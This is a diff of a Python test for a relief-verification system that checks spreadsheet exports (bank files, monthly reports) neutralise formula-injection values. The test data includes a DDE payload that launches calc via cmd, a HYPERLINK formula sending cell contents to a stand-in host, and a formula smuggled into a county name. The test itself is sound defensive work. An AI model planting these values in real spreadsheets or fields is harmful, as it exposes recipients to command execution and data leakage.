@@ -20,7 +20,10 @@ from verifier.domain.income import HouseholdIncome, RigidExpenditure
 from verifier.domain.payee import check_payee
 from verifier.payments import bankfiles, service
 from verifier.payments.models import PaymentBatch, PaymentItem
-from verifier.reports.service import monthly_xlsx
+from verifier.reports.figures import roll_up
+from verifier.reports.queries import Period
+from verifier.reports.service import assemble
+from verifier.web.report_sheet import monthly_xlsx
 from verifier.store.tables import Check
 
 BAD = [lead + "SUM(A1)" for lead in FORMULA_LEADS] + ['=HYPERLINK("http://x.example/?"&A1)', "-1+1", "+86"]
@@ -99,18 +102,13 @@ def test_people_facing_exports_escape_formula_cells() -> None:
     assert formula_cells(cells[1:], bankfiles.BANK_FILE_HEADER) == []
     ws = load_workbook(io.BytesIO(bankfiles.bank_file_xlsx(rows))).active
     assert ws["B2"].value == "'=1+1" and ws["B2"].data_type == "s" and ws["F3"].value == "'-memo"
-    report = {"county_code": "340223", "month": "2020-06",
-              "referrals": {"records": 0, "by_channel": {}, "new_cases": 0},
-              "checks": {"completed": 0, "households": 0, "person_visits": 0, "late": 0, "visits": 0,
-                         "households_visited": 0, "without_check": 0, "without_check_by_outcome": {}},
-              "determinations": {"eligible": 0, "eligible_by_rule": {}, "ineligible": 0, "relief_determined": "0.00"},
-              "village_reviews": {"passed": 0, "failed": 0}, "notices": {"posted": 0, "households": 0, "relief": "0.00"},
-              "objections": {"received": 0, "upheld": 0, "dismissed": 0, "open": 0},
-              "payments": {"paid_households": 0, "paid": "0.00", "failed": 0}, "sampling": {"rounds": 0, "drawn": 0},
-              "cases_by_status": {},
-              "funds": [{"contract_id": "=cmd|' /C calc'!A0", "budget": "-5.00", "committed": "0.00", "paid": "0.00",
-                         "service_fee": "0.00", "balance": "0.00"}]}
-    fund = load_workbook(io.BytesIO(monthly_xlsx(report)))["资金"]
+    funds = [{"contract_id": "=cmd|' /C calc'!A0", "budget": "-5.00", "committed": "0.00", "paid": "0.00",
+              "service_fee": "0.00", "balance": "0.00"}]
+    report = assemble("340223", "=HYPERLINK(1)", Period(date(2020, 1, 1), date(2020, 6, 1), date(2020, 6, 30)), None,
+                      roll_up([]), by_status={}, funds=funds, recoveries=None)
+    book = load_workbook(io.BytesIO(monthly_xlsx(report)))
+    assert book["概要"]["B2"].value == "'=HYPERLINK(1)（340223）"  # a county name as the contract spells it
+    fund = book["资金"]
     assert fund["A2"].value == "'=cmd|' /C calc'!A0" and fund["A2"].data_type == "s"
     assert float(fund["B2"].value) == -5.0  # money stays a number
     assert escape_cell(12) == 12 and escape_cell("王") == "王"
